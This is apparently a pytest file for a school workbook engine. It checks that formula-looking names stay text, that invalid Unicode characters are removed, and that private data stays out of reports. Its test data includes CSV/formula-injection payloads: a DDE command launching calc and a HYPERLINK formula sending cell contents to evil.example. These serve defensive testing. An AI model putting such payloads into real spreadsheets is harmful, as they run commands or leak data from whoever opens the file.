"""What the engine writes into cells, under attack.

- Text stays text in every workbook the engine writes (run outputs, annotated copies, assign, templates):
  a name typed as =DDE(…), =HYPERLINK(…), +…, -…, @…, or with a leading tab or CR never becomes a formula.
- Characters no workbook can hold (U+FFFE, U+FFFF, U+FDD0–U+FDEF, U+nFFFE…) are reported at their cell and
  removed, and no output is ever unreadable because of them.
- report.json, the summary, the merged book's lists and the console never carry a password, a phone or
  ID-card number, or private free text; the class's own feedback book does (it is that class's data).
"""
from __future__ import annotations

import datetime as dt
import json
import random
import re
import shutil
import zipfile
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.builders import class_book
from tests.helpers.office import SOFFICE, convert
from tests.helpers.terms import term_dir
from workbook_engine.cli import main
from workbook_engine.pipeline import run_inbox
from workbook_engine.reading.reader import open_workbook
from workbook_engine.settings import Settings
from workbook_engine.validation.validate import validate_file
from workbook_engine.writing.annotate import annotate
from workbook_engine.writing.assign import run_assign
from workbook_engine.writing.books import Book
from workbook_engine.writing.fastxlsx import FastBook
from workbook_engine.writing.samples import make_class, school_toml, write_assessment
from workbook_engine.writing.templates import write_templates

AS_OF = dt.date(2026, 10, 20)
DDE = '=DDE("cmd";"/C calc";"!A0")'
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
PAYLOADS = [DDE, LINK, "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
NONCHARS = "\ufffe\uffff\ufdd0\ufdef\U0001fffe\U0010ffff"
RARE = "𠀋𪚥😀"  # characters beyond the BMP that are not non-characters: kept

PHONE = "13812345678"
LANDLINE = "010-62345678"
ID_CARD = "11010120090101123X"
FREE_ATTENTION = "父母离异由奶奶照顾"
ARCHIVE_TEXT = "家里经济困难，父亲长期在外地打工，孩子情绪低落"
PASSWORD = "S3cr3t-Pa55"
SECRETS = [PHONE, LANDLINE, ID_CARD, FREE_ATTENTION, ARCHIVE_TEXT, PASSWORD]


# -- reading back what was written -------------------------------------------------------------------
_OOXML_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")


def ooxml(text: str) -> str:
    """Text as Excel reads it from a cell: _xHHHH_ escapes decoded (openpyxl leaves _x000D_ as it is)."""
    return _OOXML_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), text)


def cells(path: Path) -> list[tuple[str, str, object, str]]:
    """(sheet, cell, value, data type) of every non-empty cell; the workbook must open in openpyxl."""
    wb = openpyxl.load_workbook(path)
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    value = ooxml(c.value) if isinstance(c.value, str) else c.value
                    out.append((ws.title, c.coordinate, value, c.data_type))
    return out


def texts(path: Path) -> list[str]:
    return [v for _, _, v, _ in cells(path) if isinstance(v, str)]


def assert_no_formulas(path: Path) -> None:
    """No <f> element in any sheet part, and openpyxl sees no formula cell."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<f[\s>/]", z.read(name)), f"{path.name}: a formula in {name}"
    formulas = [(s, ref, v) for s, ref, v, t in cells(path) if t == "f"]
    assert not formulas, f"{path.name}: formula cells {formulas[:5]}"


def holds_text(path: Path, text: str) -> bool:
    """Some string cell is text, or starts with text and a space (the grids show 'name id')."""
    return any(v == text or v.startswith(text + " ") for v in texts(path))


# -- building the inputs -----------------------------------------------------------------------------
def rename(data, mapping: dict[str, str]) -> None:
    """Rename people everywhere in a class's records (every sheet that names them)."""
    for rows in data.sheets.values():
        for rec in rows:
            for k, v in rec.items():
                if isinstance(v, str):
                    if v in mapping:
                        rec[k] = mapping[v]
                    elif "、" in v:
                        rec[k] = "、".join(mapping.get(x, x) for x in v.split("、"))


def hostile_class(seed: int = 31, class_no: int = 1, nonchar: bool = True):
    """A class whose mentors and students carry formula-looking names (and, with nonchar, one student's name
    holds non-characters: a file openpyxl writes but cannot read back)."""
    data = make_class(seed, 7, class_no, students=11, mentors=2, until=AS_OF)
    mentors = [m for m in data.sheets["mentors"] if m["role"] != "班主任"]
    mapping = {mentors[0]["name"]: DDE, mentors[1]["name"]: LINK}
    for s, payload in zip(data.sheets["students"], PAYLOADS):
        mapping[s["name"]] = payload
    mapping[data.sheets["students"][-2]["name"]] = "张" + RARE  # rare characters, not non-characters
    if nonchar:
        mapping[data.sheets["students"][-1]["name"]] = "王" + NONCHARS + "五"
    rename(data, mapping)
    return data


def private_class(path: Path) -> Path:
    """A class workbook carrying private text where the office must never see it."""
    data = make_class(32, 7, 2, students=8, mentors=2, until=AS_OF)
    class_book(path.parent, data, path.name)
    wb = openpyxl.load_workbook(path)
    ws = wb["谈心记录"]
    ws["A3"] = f"家长电话{PHONE}"  # a phone number typed into the date column
    ws["A4"] = f"座机 {LANDLINE}"
    ws["D5"] = ID_CARD  # an ID-card number typed into 学号
    ws = wb["学生名册"]
    attention = next(c.column for c in ws[1] if str(c.value or "").startswith("重点关注类别"))
    ws.cell(2, attention).value = FREE_ATTENTION  # free text in 重点关注类别
    notes = next(c.column for c in ws[1] if str(c.value or "").startswith("备注"))
    ws.cell(3, notes).value = f"奶奶电话 {PHONE}"  # the class's own note: fine in its own book
    ws = wb["学生档案"]
    ws["A2"] = data.sheets["students"][0]["student_id"]
    ws["B2"] = ARCHIVE_TEXT  # archive text typed into the date column
    wb.save(path)
    return path


def write_ods(path: Path, sheets: dict[str, list[list[str]]]) -> Path:
    """A minimal OpenDocument spreadsheet, written by hand (every cell a string)."""
    from xml.sax.saxutils import escape

    def cell(text: str) -> str:
        body = escape(text).replace("\r", "&#13;").replace("\t", "&#9;")
        return f'<table:table-cell office:value-type="string"><text:p>{body}</text:p></table:table-cell>'

    tables = "".join(
        f'<table:table table:name="{escape(name)}">'
        + "".join("<table:table-row>" + "".join(map(cell, row)) + "</table:table-row>" for row in rows)
        + "</table:table>" for name, rows in sheets.items())
    content = ('<?xml version="1.0" encoding="UTF-8"?>'
               '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
               f"<office:body><office:spreadsheet>{tables}</office:spreadsheet></office:body>"
               "</office:document-content>")
    manifest = ('<?xml version="1.0" encoding="UTF-8"?>'
                '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
                'manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type='
                '"application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                "</manifest:manifest>")
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        z.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
        z.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
    return path


@pytest.fixture(scope="module")
def school(tmp_path_factory):
    """One run: a class with hostile names, a class with private text, settings with a password."""
    base = tmp_path_factory.mktemp("cells")
    inbox = base / "inbox"
    inbox.mkdir()
    hostile = hostile_class()
    class_book(inbox, hostile, "七年级1班.xlsx")
    private_class(inbox / "七年级2班.xlsx")
    other = make_class(32, 7, 2, students=8, mentors=2, until=AS_OF)
    write_assessment([hostile, other], inbox / "学校考核数据.xlsx")
    toml = school_toml(["七年级1班", "七年级2班"]) + f'\n[limits]\npasswords = ["{PASSWORD}", "123456"]\n'
    (inbox / "school.toml").write_text(toml, encoding="utf-8")
    out = base / "out"
    result = run_inbox(inbox, out, as_of=AS_OF)
    assert result.settings.limits.passwords == [PASSWORD, "123456"]
    return SimpleNamespace(inbox=inbox, out=out, result=result, books=_outputs(out, result))


def _outputs(out: Path, result) -> dict[str, Path]:
    feedback = {f["class"]: out / f["path"] for f in result.report["feedback"]}
    return {"merged": out / result.layout.merged, "summary": out / result.layout.summary,
            "feedback1": feedback["七年级1班"], "feedback2": feedback["七年级2班"]}


# -- text stays text -----------------------------------------------------------------------------------------------
def test_run_outputs_keep_formula_looking_names_as_text(school):
    """Names typed as formulas come out of run as text cells in the merged book, the summary and the
    class's feedback book (the validated value: leading whitespace is trimmed, so '\\t=1+1' is '=1+1')."""
    books = school.books
    for key in ("merged", "summary", "feedback1"):
        assert_no_formulas(books[key])
    for payload in PAYLOADS:
        typed = payload.strip()
        assert holds_text(books["merged"], typed), payload
        assert holds_text(books["feedback1"], typed), payload
        assert holds_text(books["summary"], typed), payload  # the grid: the xlsxwriter and the deferred rows
    for mentor in (DDE, LINK):  # the mentors' scores, by name
        assert holds_text(books["summary"], mentor)


@pytest.mark.parametrize("writer", ["fast", "xlsxwriter", "xlsxwriter-deferred"])
def test_every_writer_stores_each_payload_as_the_same_text(tmp_path, writer):
    """The run's two writers, each payload in a cell of its own: read back, the same text, as text; and a
    non-character in the text is gone, the rest of the text kept (and rare CJK characters and emoji too)."""
    values = PAYLOADS + ["a" + NONCHARS + "b", RARE]
    path = tmp_path / f"{writer}.xlsx"
    if writer == "fast":
        book = FastBook()
        book.table("表", ["值"], [[v] for v in values])
        book.save(path)
    else:
        b = Book(path, constant_memory=False)
        if writer == "xlsxwriter":
            b.table("表", ["值"], [[v] for v in values])
        else:
            ws = b.sheet("表")
            b.write(ws, 0, 0, "值")
            b.defer_rows(ws, 1, [[(v, b.fmt["text"])] for v in values])
        b.close()
    assert_no_formulas(path)
    got = [v for _, _, v, t in cells(path) if v != "值"]
    assert got == PAYLOADS + ["ab", RARE]
    assert all(t == "s" for s, ref, v, t in cells(path))


def test_assign_writes_mentor_and_student_names_as_text(tmp_path):
    """assign (openpyxl) fills 导师姓名 and its 分配说明 sheet from names: =DDE(…) and =HYPERLINK(…) stay text."""
    data = hostile_class(nonchar=False)
    data.sheets["choices"] = []
    mentors = [m for m in data.sheets["mentors"] if m["role"] != "班主任"]
    rng = random.Random(1)
    for s in data.sheets["students"]:
        picks = rng.sample([m["teacher_id"] for m in mentors], 2)
        data.sheets["choices"].append({"student_id": s["student_id"], "student_name": s["name"],
                                       "choice1": picks[0], "choice2": mentors[0]["name"]})
        s["mentor_id"] = s["mentor_name"] = None
    src = class_book(tmp_path, data, "七年级1班.xlsx")
    out = tmp_path / "分配结果.xlsx"
    run_assign(src, out, Settings(), "students", seed=1, on=dt.date(2026, 9, 7))
    assert_no_formulas(out)
    wb = openpyxl.load_workbook(out)
    roster = wb["学生名册"]
    col = next(c.column for c in roster[1] if str(c.value or "").startswith("导师姓名"))
    names = {roster.cell(r, col).value for r in range(2, roster.max_row + 1)} - {None}
    assert names == {DDE, LINK}
    assert all(roster.cell(r, col).data_type == "s" for r in range(2, roster.max_row + 1)
               if roster.cell(r, col).value is not None)
    note = texts(out)
    assert any(v.startswith(DDE + " ") for v in note) and any(v.startswith(LINK + " ") for v in note)
    for payload in PAYLOADS:  # 分配说明 lists every student by name
        assert payload.strip() in note, payload


def test_annotated_copy_of_an_ods_keeps_cell_text_as_text(tmp_path):
    """An .ods (hand-written here) whose cells hold formula-looking text: its annotated copy holds the same
    text as text cells — the reader's values, no formula, nothing evaluated."""
    rows = [["学号", "姓名", "备注"]] + [[f"20260{i}", p, f"x{NONCHARS}y"] for i, p in enumerate(PAYLOADS, 1)]
    src = write_ods(tmp_path / "名单.ods", {"学生名册": rows, "=Sheet": [["=1+1"]]})
    raw = open_workbook(src)
    try:
        read = [v for name in raw.sheet_names for row in raw.sheet(name).rows for v in row if v not in (None, "")]
    finally:
        raw.close()
    assert DDE in read and LINK in read  # the reader sees the text (so the test means something)
    report = validate_file(src)
    copy = annotate(report, tmp_path / "annotated")
    assert copy is not None
    assert_no_formulas(copy)
    got = [v for s, _, v, _ in cells(copy) if s != "问题清单"]
    assert got == [v.replace(NONCHARS, "") if isinstance(v, str) else v for v in read]


def test_templates_hold_no_formula_and_no_unwritable_character(tmp_path):
    """The blank templates: every cell is text, data or blank — no formula anywhere."""
    for path in write_templates(tmp_path):
        if path.suffix == ".xlsx":
            assert_no_formulas(path)
            assert texts(path)


# -- characters no workbook can hold -------------------------------------------------------------------------------
def test_noncharacters_are_reported_at_their_cell_and_removed(school):
    report = validate_file(school.inbox / "七年级1班.xlsx")
    found = [(p.sheet, p.cell, p.code, p.detail) for p in report.problems if p.code == "invalid-characters"]
    assert found and all(sheet and cell for sheet, cell, _, _ in found)
    assert any(s == "学生名册" for s, _, _, _ in found)
    assert "U+FFFE" in found[0][3] and "U+1FFFE" in found[0][3]
    named = [r["name"] for r in report.records("students")]
    assert "王五" in named  # the rest of the text is kept
    assert "张" + RARE in named  # characters beyond the BMP that XML carries: kept, no warning
    assert all(RARE not in str(p.value) for p in report.problems)
    en = [p.message("en") for p in report.problems if p.code == "invalid-characters"]
    assert "U+FFFE" in en[0]


def test_every_output_opens_after_noncharacters_in_a_cell(school):
    """The merged book and the class's feedback book open (they were unreadable), every output too, and
    no output holds a non-character."""
    nonchar = re.compile("[" + NONCHARS + "]")
    for path in sorted(school.out.rglob("*.xlsx")):
        for value in texts(path):
            assert not nonchar.search(value), (path.name, value)
    assert holds_text(school.books["feedback1"], "王五")


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed on this machine")
def test_libreoffice_converts_the_merged_and_feedback_books_with_noncharacters(school, tmp_path):
    books = school.books
    copies = []
    for key in ("merged", "feedback1", "summary"):
        copies.append(tmp_path / f"{key}.xlsx")
        shutil.copy(books[key], copies[-1])
    for pdf in convert(copies, "pdf", tmp_path / "pdf", tmp_path):
        assert pdf.stat().st_size > 1000


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed on this machine")
@pytest.mark.parametrize("fmt", ["ods", "xls"])
def test_annotated_copy_of_a_class_workbook_saved_as_ods_or_xls_has_no_formulas(tmp_path, fmt):
    """The hostile class workbook saved by LibreOffice as .ods / .xls, then annotated: names stay text."""
    data = hostile_class(nonchar=False)
    src = class_book(tmp_path, data, "七年级1班.xlsx")
    wb = openpyxl.load_workbook(src)
    wb["谈心记录"]["F3"] = "聊天"  # one error, so the copy has a problem to mark
    wb.save(src)
    (converted,) = convert([src], fmt, tmp_path / fmt, tmp_path)
    report = validate_file(converted)
    assert report.kind == "class"
    copy = annotate(report, tmp_path / "annotated")
    assert copy is not None
    assert_no_formulas(copy)
    for payload in (DDE, LINK, "=1+1", "+1+1", "-1+1", "@SUM(1,1)"):
        assert holds_text(copy, payload), payload


# -- secrets and private text stay out of the office's outputs -----------------------------------------------------
def test_report_json_holds_no_secret_phone_id_or_private_text(school):
    raw = (term_dir(school.out) / "report.json").read_bytes()
    for secret in SECRETS:
        assert secret.encode("utf-8") not in raw, secret
        assert json.dumps(secret).encode() not in raw, secret
    report = json.loads(raw)
    limits = report["settings"]["limits"]
    assert limits["passwords"] == ["***", "***"]  # how many, never which
    assert report["settings"]["mail"]["password_env"] == "WORKBOOK_ENGINE_MAIL_PASSWORD"  # a name, kept
    problems = [p for f in report["files"] if f["class"] == "七年级2班" for p in f["problems"]]
    codes = {p["code"] for p in problems}
    assert {"invalid-date", "value-not-allowed"} <= codes  # the problems are there, their values hidden


def test_summary_and_merged_lists_hold_no_phone_id_or_private_text(school):
    books = school.books
    summary = "\n".join(texts(books["summary"]))
    for secret in SECRETS:
        assert secret not in summary, secret
    wb = openpyxl.load_workbook(books["merged"])
    lists = [v for name in ("收到的文件", "未采用的行", "版本间缺失的行") if name in wb.sheetnames
             for row in wb[name].iter_rows(values_only=True) for v in row if isinstance(v, str)]
    listed = "\n".join(lists)
    assert "七年级2班" in listed
    for secret in SECRETS:
        assert secret not in listed, secret


def test_the_class_feedback_book_keeps_its_own_values(school):
    """That class's own book shows what was typed, so the head teacher can find and fix it."""
    own = "\n".join(texts(school.books["feedback2"]))
    for value in (PHONE, LANDLINE, ID_CARD, FREE_ATTENTION):
        assert value in own, value
    assert PASSWORD not in own


def test_run_console_holds_no_secret(school, tmp_path, capsys):
    main(["run", str(school.inbox), "--out", str(tmp_path / "out"), "--as-of", AS_OF.isoformat()])
    printed = capsys.readouterr()
    for secret in SECRETS:
        assert secret not in printed.out + printed.err, secret


def test_annotate_and_assign_copy_a_file_openpyxl_cannot_read(tmp_path):
    """A class workbook whose text holds U+FFFE (a file openpyxl writes but cannot parse back; Excel's
    readers and calamine accept it): the annotated copy and assign's output are written from the values
    read, and open."""
    data = hostile_class(nonchar=True)
    src = class_book(tmp_path, data, "七年级1班.xlsx")
    report = validate_file(src)
    assert any(p.code == "invalid-characters" for p in report.problems)
    copy = annotate(report, tmp_path / "annotated")
    assert copy is not None and holds_text(copy, "王五") and holds_text(copy, DDE)
    assert_no_formulas(copy)
    out = tmp_path / "分配结果.xlsx"
    run_assign(src, out, Settings(), "students", seed=1, on=dt.date(2026, 9, 7))
    assert holds_text(out, "王五")
    assert_no_formulas(out)


@given(st.text(alphabet=st.sampled_from(list("&<>\"'a中 \n;#x")), max_size=30))
def test_xml_escapes_are_the_standard_librarys(text):
    """The writers' own XML escape (celltext.escape: no urllib, http and email imported into a spawned reader) is
    xml.sax.saxutils.escape, for an element and, with quote, for an attribute in double quotes."""
    from xml.sax.saxutils import escape as standard

    from workbook_engine.reading.celltext import escape

    assert escape(text) == standard(text)
    assert escape(text, quote=True) == standard(text, {'"': "&quot;"})
